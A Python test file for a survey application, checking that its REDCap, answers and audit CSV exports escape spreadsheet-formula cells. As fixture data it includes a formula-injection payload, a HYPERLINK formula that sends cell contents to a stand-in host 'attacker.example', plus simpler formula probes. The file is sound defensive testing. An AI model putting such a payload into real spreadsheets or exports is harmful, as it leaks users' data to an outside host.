"""Every CSV export goes through instruments.csv_cells: formula cells are escaped in the
REDCap data dictionary (web and CLI), the answers CSV and the audit CSV."""

from __future__ import annotations

import csv
import io

import pytest

from instruments.csv_cells import FORMULA_START
from instruments.definition import InstrumentDefinition
from instruments.loader import parse_definition
from instruments.redcap import REDCAP_COLUMNS, from_redcap_csv
from instruments.serialize import to_mapping

LABEL, CHOICES, ANNOTATION = REDCAP_COLUMNS[4], REDCAP_COLUMNS[5], REDCAP_COLUMNS[17]
HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Click here")'


@pytest.fixture
def hostile(small: InstrumentDefinition) -> InstrumentDefinition:
    """``small`` with formula text in a label, a section header, the intro and choices."""
    mapping = to_mapping(small)
    mapping["intro"] = "@SUM(1+1)"
    mapping["constructs"][0]["name"] = "+Construct AA"
    items = mapping["constructs"][0]["subconstructs"][0]["items"]
    items[0]["text"] = HYPERLINK
    items[1]["text"] = "-Statement starting with a dash."
    for option in mapping["response_scales"]["agree3"]:
        option["value"] -= 2  # -1, 0, 1: the choices cells start with "-"
    mapping["attention_checks"][0]["expected"] = 0
    return parse_definition(mapping, "hostile.yaml")


def formula_cells(text: str) -> list[str]:
    records = csv.reader(io.StringIO(text, newline=""))
    return [cell for record in records for cell in record if cell.startswith(FORMULA_START)]


def assert_escaped_dictionary(text: str, definition: InstrumentDefinition) -> None:
    assert formula_cells(text) == []
    rows = {row[REDCAP_COLUMNS[0]]: row for row in csv.DictReader(io.StringIO(text, newline=""))}
    assert rows["aa_s_1"][LABEL] == "'" + HYPERLINK
    assert rows["aa_s_2"][LABEL] == "'-Statement starting with a dash."
    assert rows["aa_s_1"][CHOICES].startswith("'-1, Disagree | 0, Neutral")
    assert rows["aa_s_1"][ANNOTATION].startswith("'@IEMDP-")
    assert rows["instrument_info"][LABEL] == "'@SUM(1+1)"
    again = from_redcap_csv(text)
    assert again == definition and again.content_hash == definition.content_hash


def test_redcap_export_from_the_web_escapes_formula_cells(app, admin_client, hostile):
    from survey.extensions import db
    from survey.services import instruments

    with app.app_context():
        version, _ = instruments.import_definition(hostile)
        db.session.commit()
        version_id = version.id
    response = admin_client.get(f"/admin/instruments/versions/{version_id}/export/redcap")
    assert response.status_code == 200
    assert_escaped_dictionary(response.get_data(as_text=True), hostile)


def test_redcap_export_from_the_cli_escapes_formula_cells(app, runner, hostile, tmp_path):
    from survey.extensions import db
    from survey.services import instruments

    with app.app_context():
        instruments.import_definition(hostile)
        db.session.commit()
    args = ["instruments", "export", hostile.key, hostile.version, "--format", "redcap"]
    result = runner.invoke(args=args)
    assert result.exit_code == 0, result.output
    assert_escaped_dictionary(result.stdout, hostile)

    out = tmp_path / "dictionary.csv"
    assert runner.invoke(args=[*args, "--output", str(out)]).exit_code == 0
    assert_escaped_dictionary(out.read_bytes().decode("utf-8"), hostile)


def test_answers_csv_escapes_formula_cells(app, make_study, small, answers_for, tmp_path):
    from survey.extensions import db
    from survey.models import Study
    from survey.services import exports

    info = make_study(small, waves=(("=1+1", "open"),))
    participant = app.test_client()
    participant.post(f"/p/{info.token}", data={"agree": "I agree"})
    participant.post(f"/p/{info.token}/page/1", data=answers_for(small.pages()[0], 3))
    with app.app_context():
        path = tmp_path / "wide.csv"
        exports.export_to(db.session.get(Study, info.study_id), "wide", path, actor=None)
        text = path.read_text(encoding="utf-8")
    assert formula_cells(text) == []
    [row] = csv.DictReader(io.StringIO(text, newline=""))
    assert row["wave"] == "'=1+1"


def test_audit_csv_escapes_formula_cells(app):
    from survey.extensions import db
    from survey.services import audit

    with app.app_context():
        audit.record("login_failed", actor=None, target_type="user", actor_email="-2+3@example.org")
        db.session.commit()
        text = audit.events_csv(audit.query_events())
    assert formula_cells(text) == []
    assert "'-2+3@example.org" in text
